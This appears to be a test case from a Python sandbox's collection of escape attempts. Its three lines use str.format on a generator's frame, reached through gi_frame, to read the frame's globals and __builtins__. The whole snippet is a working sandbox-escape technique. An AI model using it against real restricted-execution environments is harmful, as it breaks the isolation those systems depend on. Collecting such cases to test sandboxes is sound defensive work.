# attack: str.format reads f_globals of a generator frame taken through gi_frame
g = (x for x in [1])
print("{0.f_globals[__builtins__]}".format(g.gi_frame))
